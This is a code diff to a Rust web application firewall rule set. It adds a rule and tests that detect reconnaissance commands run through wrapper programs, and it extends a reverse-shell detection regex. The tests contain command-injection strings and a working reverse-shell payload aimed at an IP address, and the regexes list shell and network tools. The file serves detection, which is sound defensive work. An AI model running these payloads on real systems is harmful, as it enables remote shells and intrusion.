@@ -217,6 +217,22 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "Here-string fed to a command",
         ),
         rule(
+            932117,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            CMD,
+            // A reconnaissance command run through another program: a wrapper
+            // (`nohup ifconfig`, `strace whoami`) as the whole value, or, after a
+            // separator, as the last word of another command's options
+            // (`;cpulimit -l 100 -f whoami`, `;gdb -nx -ex !whoami -ex quit`).
+            Regex(
+                r##"^\s*(?:[;|&]{1,2}\s*)?(?:time|strace|ltrace|nohup|nice|setsid|stdbuf|unbuffer|timeout\s+\d+[smh]?)\s+(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist)(?:\s+-{1,2}[a-z]+)*\s*[;&#]?\s*$|^\s*[;|&]{1,2}\s*[a-z][\w.+-]*(?:\s+[^\s;|&]+){0,6}?\s+[\\!]?(?:whoami|ifconfig|ipconfig|systeminfo)\b(?:\s+-[a-z]+(?:\s+\w+)?)*\s*$"##,
+            ),
+            "Reconnaissance command run through another program",
+        ),
+        rule(
             932114,
             Rce,
             1,
@@ -292,7 +308,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"/dev/(?:tcp|udp)/|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
+                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
             ),
             "Reverse shell or remote script execution",
         ),
@@ -676,6 +692,30 @@ mod tests {
         for b in ["<<<<<<< HEAD", "text <<<<<<< ours", "a << b", "1 <<< 2"] {
             assert!(!fires(932116, b), "flagged {b:?}");
         }
+    }
+
+    #[test]
+    fn a_recon_command_run_through_another_program_fires_but_prose_does_not() {
+        for a in [
+            "nohup ifconfig",
+            "strace whoami",
+            "ti''me whoami",
+            ";cpulimit -l 100 -f whoami",
+            ";gdb -nx -ex \\!whoami -ex quit",
+            ";flock -u / whoami",
+        ] {
+            assert!(fires(932117, a), "missed {a:?}");
+        }
+        for b in [
+            "time who",
+            "what time is it? whoami said",
+            "nice ifconfig output, thanks",
+            "run whoami to see your user",
+        ] {
+            assert!(!fires(932117, b), "flagged {b:?}");
+        }
+        assert!(fires(932140, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"));
+        assert!(!fires(932140, "$5/tcp/80 per month"));
     }
 
     #[test]
